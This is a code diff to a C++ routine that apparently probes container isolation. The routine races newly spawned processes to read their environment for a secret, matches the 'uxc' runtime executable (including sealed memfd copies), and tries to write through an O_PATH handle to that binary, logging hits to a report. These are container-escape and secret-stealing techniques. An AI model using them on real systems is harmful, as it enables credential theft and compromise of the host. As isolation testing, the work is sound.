@@ -28,10 +28,12 @@
 #include <time.h>
 #include <unistd.h>
 
+#include <algorithm>
 #include <cerrno>
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
+#include <set>
 #include <string>
 
 extern char** environ;
@@ -211,28 +213,31 @@ bool EndsWith(const std::string& text, const std::string& end) {
 }
 
 // Watches the container's pid namespace for new processes (pids are given
-// out in order, so it probes the next few instead of scanning /proc) and
-// tries each one's environ and exe.
+// out in order, so it probes around the highest one seen instead of
+// scanning /proc), and tries each one's environ and exe again and again
+// while it lives: an exec may make it readable.
 int Race(const char* report_path, const std::string& secret, const char* stop) {
   Daemonize();
   double deadline = Now() + kDaemonSeconds;
   int highest = getpid();
-  int seen = 0, environ_hits = 0, exe_hits = 0, handle = -1;
+  int handle = -1;
+  std::set<int> seen, environ_hits, exe_hits;
   std::string hits;
   while (Now() < deadline && access(stop, F_OK) != 0) {
-    for (int pid = highest + 1; pid <= highest + 3; ++pid) {
+    for (int pid = std::max(highest - 3, getpid() + 1); pid <= highest + 3; ++pid) {
       std::string base = "/proc/" + std::to_string(pid);
       std::string environ_text = ReadFile((base + "/environ").c_str(), 65536);
       if (environ_text == "ENOENT") continue;
-      ++seen;
-      highest = pid;
-      if (environ_text.find(secret) != std::string::npos) {
-        ++environ_hits;
+      seen.insert(pid);
+      highest = std::max(highest, pid);
+      if (environ_text.find(secret) != std::string::npos && environ_hits.insert(pid).second) {
         hits += "environ_hit=" + std::to_string(pid) + "\n";
       }
       char target[512] = {};
-      if (readlink((base + "/exe").c_str(), target, sizeof target - 1) > 0 && EndsWith(target, "/uxc")) {
-        ++exe_hits;
+      // "/home/u/bin/uxc", or "/memfd:uxc (deleted)" for a sealed copy.
+      if (readlink((base + "/exe").c_str(), target, sizeof target - 1) > 0 &&
+          (EndsWith(target, "/uxc") || std::strstr(target, "uxc (deleted)") != nullptr) &&
+          exe_hits.insert(pid).second) {
         hits += "exe_hit=" + std::to_string(pid) + ":" + target + "\n";
         if (handle < 0) handle = open((base + "/exe").c_str(), O_PATH);
       }
@@ -240,8 +245,8 @@ int Race(const char* report_path, const std::string& secret, const char* stop) {
   }
   std::string write_result = handle >= 0 ? WriteThrough(handle, Now() + 10) : "no handle";
   FILE* report = OpenReport(report_path);
-  std::fprintf(report, "seen=%d\nenviron_hits=%d\nexe_hits=%d\nexe_write=%s\n%s", seen, environ_hits, exe_hits,
-               write_result.c_str(), hits.c_str());
+  std::fprintf(report, "seen=%zu\nenviron_hits=%zu\nexe_hits=%zu\nexe_write=%s\n%s", seen.size(),
+               environ_hits.size(), exe_hits.size(), write_result.c_str(), hits.c_str());
   std::fclose(report);
   return 0;
 }
